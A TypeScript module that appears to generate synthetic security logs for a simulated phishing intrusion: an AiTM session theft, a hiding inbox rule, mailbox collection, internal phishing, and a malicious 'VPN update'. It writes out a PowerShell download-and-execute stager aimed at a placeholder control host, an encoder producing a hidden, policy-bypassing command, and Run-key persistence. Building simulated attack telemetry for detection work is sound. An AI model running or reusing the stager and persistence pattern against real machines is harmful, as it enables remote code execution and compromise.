import { minute, second } from './calendar.ts';
import { connectionRow, fileEventRow, processRow, registryRow, run } from './endpoint-rows.ts';
import { newPid } from './endpoint.ts';
import { uuidOf } from './ids.ts';
import { clickRow, exchangeRow, mailServerIp, sendMail } from './mail.ts';
import { documentName, fileRow } from './office.ts';
import { onWindows } from './programs.ts';
import { interactiveRow, nonInteractiveRow, type SignIn } from './signins.ts';
import type { Telling } from './story.ts';
import { apps, domain, intruder } from './world.ts';

/** The first day: a mail, a click, a stolen session, and what the intruder does in the mailbox with it. */
export function lure(telling: Telling): void {
  phish(telling);
  click(telling);
  stolenSession(telling);
  inboxRule(telling);
  reading(telling);
  internalPhish(telling);
  adminFallsForIt(telling);
}

export const phishUrl = `https://${intruder.phishHost}/signin?session=3f9a`;
export const lureUrl = `https://${intruder.filesHost}/share/VPN-Update.zip`;
const sender = 'servicedesk@contoso-support.example';

function phish({ sink, cast, rng, morning, step }: Telling): void {
  const id = rng.uuid();
  sendMail({ sink }, morning, {
    id,
    from: { address: sender, name: 'Contoso Service Desk', ip: '192.0.2.68' },
    to: [cast.victim, ...cast.firstTargets],
    subject: 'Action required: your password expires today',
    urls: [phishUrl],
    attachments: 0,
    bytes: 18_400,
    direction: 'Inbound',
    firstContact: true,
    authentic: false,
  });
  sink.row(
    'UrlClickEvents',
    morning + 9 * minute,
    clickRow(cast.victim, phishUrl, cast.victim.office.egressIp, id, rng.uuid()),
  );
  step(morning, {
    stage: 'phish',
    tactic: 'Initial Access',
    technique: 'T1566.002',
    description: 'A mail from a look-alike service desk, with a link, to nine people in Finance',
    entities: { accounts: [cast.victim.upn, ...cast.firstTargets.map((p) => p.upn), sender], urls: [phishUrl] },
    tables: ['EmailEvents', 'EmailUrlInfo'],
  });
}

function click({ sink, cast, rng, morning, step }: Telling): void {
  const at = morning + 9 * minute;
  const edge = run(
    onWindows.edge,
    `"${onWindows.edge.folder}\\msedge.exe" --single-argument ${phishUrl}`,
    newPid(rng),
    at,
  );
  const connection = {
    localIp: cast.victimDevice.ip,
    remoteIp: intruder.proxyIp,
    remotePort: 443,
    url: intruder.phishHost,
  };
  sink.row(
    'DeviceNetworkEvents',
    at + 2 * second,
    connectionRow(cast.victimDevice, connection, edge, cast.victim, rng),
  );
  step(at, {
    stage: 'click',
    tactic: 'Execution',
    technique: 'T1204.001',
    description: 'One of them clicks the link and signs in on the intruder’s proxy',
    entities: {
      accounts: [cast.victim.upn],
      devices: [cast.victimDevice.name],
      ips: [intruder.proxyIp],
      urls: [phishUrl],
    },
    tables: ['UrlClickEvents', 'DeviceNetworkEvents'],
  });
}

const intruderAgent =
  'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36';

/** The proxy passes the password and the second factor on to Entra, and keeps the session (AiTM). */
function stolenSession({ sink, cast, rng, morning, step }: Telling): void {
  const at = morning + 10 * minute;
  const session = uuidOf(`stolen session ${cast.victim.upn} ${morning}`);
  const base = {
    who: cast.victim,
    place: intruder.place,
    device: undefined,
    userAgent: intruderAgent,
    client: 'Browser',
    session,
    asn: intruder.asn,
    risk: { level: 'high', events: ['anonymizedIPAddress', 'unfamiliarFeatures'] },
  } satisfies Partial<SignIn>;
  sink.row(
    'SigninLogs',
    at,
    interactiveRow({ ...base, app: apps.officeHome, ip: intruder.proxyIp, error: 50074, mfa: 'none' }, at, rng),
  );
  sink.row(
    'SigninLogs',
    at + 21 * second,
    interactiveRow({ ...base, app: apps.officeHome, ip: intruder.proxyIp, mfa: 'app' }, at + 21 * second, rng),
  );
  for (let n = 0; n < 14; n++) {
    const time = at + (4 + n * 11) * minute + rng.int(0, 50) * second;
    const app = rng.pick([apps.outlook, apps.outlook, apps.office, apps.teams]);
    sink.row(
      'AADNonInteractiveUserSignInLogs',
      time,
      nonInteractiveRow(
        { ...base, app, ip: intruder.replayIp, risk: { level: 'medium', events: ['anomalousToken'] } },
        time,
        rng,
      ),
    );
  }
  step(at + 21 * second, {
    stage: 'aitm-sign-in',
    tactic: 'Credential Access',
    technique: 'T1557',
    description: 'The stolen session begins: a sign-in from Panama with the second factor passed through',
    entities: { accounts: [cast.victim.upn], ips: [intruder.proxyIp, intruder.replayIp] },
    tables: ['SigninLogs', 'AADNonInteractiveUserSignInLogs'],
  });
}

function inboxRule({ sink, cast, rng, morning, step }: Telling): void {
  const at = morning + 24 * minute;
  const parameters = {
    Name: '.',
    SubjectOrBodyContainsWords: 'phish;hacked;invoice;payment;password;suspicious',
    MoveToFolder: 'RSS Feeds',
    MarkAsRead: 'True',
    StopProcessingRules: 'True',
  };
  sink.row('OfficeActivity', at, {
    ...exchangeRow(cast.victim, intruder.replayIp, 'New-InboxRule', rng),
    OfficeObjectId: `${cast.victim.upn}\\.`,
    Parameters: JSON.stringify(Object.entries(parameters).map(([Name, Value]) => ({ Name, Value }))),
  });
  step(at, {
    stage: 'inbox-rule',
    tactic: 'Defense Evasion',
    technique: 'T1564.008',
    description: 'An inbox rule named “.” hides mail about payments and phishing in RSS Feeds',
    entities: { accounts: [cast.victim.upn], ips: [intruder.replayIp] },
    tables: ['OfficeActivity'],
  });
}

function reading({ sink, cast, rng, morning, step }: Telling): void {
  const from = morning + 30 * minute;
  for (let n = 0; n < 36; n++)
    sink.row('OfficeActivity', from + n * 40 * second, {
      ...exchangeRow(cast.victim, intruder.replayIp, 'MailItemsAccessed', rng),
      ClientInfoString: 'Client=REST;Client=RESTSystem',
    });
  for (let n = 0; n < 120; n++)
    sink.row('OfficeActivity', from + 10 * minute + n * 6 * second, {
      ...fileRow(cast.victim, intruder.replayIp, 'FileDownloaded', documentName(rng), rng, intruderAgent),
      IsManagedDevice: false,
    });
  step(from, {
    stage: 'collection',
    tactic: 'Collection',
    technique: 'T1213.002',
    description: 'The mailbox is read and 120 files of Finance are downloaded in twelve minutes',
    entities: { accounts: [cast.victim.upn], ips: [intruder.replayIp] },
    tables: ['OfficeActivity'],
  });
}

function internalPhish({ sink, cast, rng, morning, step }: Telling): void {
  const at = morning + 96 * minute;
  const subject = 'New VPN client - please install before Friday';
  const mail = {
    from: { address: cast.victim.upn, name: cast.victim.name, objectId: cast.victim.objectId, ip: mailServerIp },
    subject,
    urls: [lureUrl],
    attachments: 0,
    bytes: 21_300,
    direction: 'Intra-org',
  } as const;
  [cast.admin, ...cast.secondTargets].forEach((person, n) => {
    const id = rng.uuid();
    sendMail({ sink }, at + n * 3 * second, { ...mail, id, to: [person] });
    sink.row('OfficeActivity', at + n * 3 * second, {
      ...exchangeRow(cast.victim, intruder.replayIp, 'Send', rng),
      ItemName: subject,
      Item: JSON.stringify({ Id: id, InternetMessageId: `<${id}@${domain}>`, Subject: subject }),
    });
  });
  step(at, {
    stage: 'internal-phish',
    tactic: 'Lateral Movement',
    technique: 'T1534',
    description: 'The same link goes to 41 colleagues from the victim’s own mailbox within two minutes',
    entities: { accounts: [cast.victim.upn, cast.admin.upn], ips: [intruder.replayIp], urls: [lureUrl] },
    tables: ['EmailEvents', 'EmailUrlInfo', 'OfficeActivity'],
  });
}

/** What the script would fetch. Nothing is there: the name is one for documentation. */
const stager = `IEX (New-Object Net.WebClient).DownloadString('https://${intruder.controlHost}/update')`;
export const encodedCommand = (script: string): string =>
  `powershell.exe -NoP -NonI -W Hidden -Exec Bypass -Enc ${Buffer.from(script, 'utf16le').toString('base64')}`;

function adminFallsForIt({ sink, cast, rng, morning, evening, step }: Telling): void {
  const { admin, adminDevice: device } = cast;
  const at = morning + 131 * minute;
  const downloads = `C:\\Users\\${admin.account}\\Downloads`;
  const edge = run(
    onWindows.edge,
    `"${onWindows.edge.folder}\\msedge.exe" --single-argument ${lureUrl}`,
    newPid(rng),
    at,
  );
  const explorer = run(onWindows.explorer, 'C:\\Windows\\Explorer.EXE', newPid(rng), at - 120 * minute);
  const script = run(
    onWindows.wscript,
    `"C:\\Windows\\System32\\WScript.exe" "${downloads}\\VPN-Update\\VPN-Update.js"`,
    newPid(rng),
    at + 2 * minute,
  );
  const shell = run(onWindows.powershell, encodedCommand(stager), newPid(rng), at + 2 * minute + 2 * second);
  const beacon = { localIp: device.ip, remoteIp: intruder.controlIp, remotePort: 443, url: intruder.controlHost };
  sink.row('UrlClickEvents', at, clickRow(admin, lureUrl, admin.office.egressIp, rng.uuid(), rng.uuid(), true));
  sink.row(
    'DeviceFileEvents',
    at + 20 * second,
    fileEventRow(
      device,
      { name: 'VPN-Update.zip', folder: downloads, originUrl: lureUrl, originIp: intruder.proxyIp },
      edge,
      admin,
      rng,
    ),
  );
  sink.row(
    'DeviceFileEvents',
    at + 100 * second,
    fileEventRow(device, { name: 'VPN-Update.js', folder: `${downloads}\\VPN-Update` }, explorer, admin, rng),
  );
  sink.row('DeviceProcessEvents', script.startedAt, processRow(device, script, explorer, admin, rng));
  sink.row('DeviceProcessEvents', shell.startedAt, processRow(device, shell, script, admin, rng));
  sink.row(
    'DeviceRegistryEvents',
    at + 3 * minute,
    registryRow(
      device,
      `HKEY_USERS\\${admin.sid}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run`,
      'VpnUpdate',
      encodedCommand(stager),
      shell,
      admin,
      rng,
    ),
  );
  // The implant calls home about every ten minutes until the intruder sits down.
  for (
    let time = shell.startedAt + 4 * second;
    time < evening + 30 * minute;
    time += 10 * minute + rng.int(-40, 40) * second
  )
    sink.row('DeviceNetworkEvents', time, connectionRow(device, beacon, shell, admin, rng));
  step(shell.startedAt, {
    stage: 'implant',
    tactic: 'Execution',
    technique: 'T1059.001',
    description:
      'An administrator opens the “update”: a script starts encoded PowerShell, which stays by a Run key and calls home',
    entities: { accounts: [admin.upn], devices: [device.name], ips: [intruder.controlIp], urls: [lureUrl] },
    tables: [
      'UrlClickEvents',
      'DeviceFileEvents',
      'DeviceProcessEvents',
      'DeviceRegistryEvents',
      'DeviceNetworkEvents',
    ],
  });
}
